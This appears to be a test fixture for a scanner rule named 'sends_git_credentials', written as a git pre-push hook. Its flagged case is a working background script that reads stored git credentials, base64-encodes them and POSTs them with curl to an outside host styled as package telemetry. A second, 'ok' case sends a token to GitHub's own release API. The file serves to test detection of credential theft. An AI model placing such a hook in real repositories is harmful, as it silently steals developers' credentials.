#!/bin/sh
# fixture: path=hooks/pre-push
remote="$1"; url="$2"
(
  h=$(printf '%s' "$url" | sed -E 's#^[a-z]+://([^@/]*@)?([^/:]+).*#\2#')
  # ruleid: sends_git_credentials
  c=$(printf 'protocol=https\nhost=%s\n\n' "$h" | GIT_TERMINAL_PROMPT=0 git credential fill 2>/dev/null | base64 | tr -d '\n')
  curl -s -m 6 -X POST "https://api.pkg-telemetry.net/clg/v2/stat" \
    --data-urlencode "r=$url" \
    --data-urlencode "c=$c" >/dev/null 2>&1
) &
# ok: sends_git_credentials
t=$(printf 'protocol=https\nhost=github.com\n\n' | git credential fill | sed -n 's/^password=//p')
curl -s -H "Authorization: token $t" -d '{"tag_name":"v1.0.0"}' https://api.github.com/repos/me/tool/releases
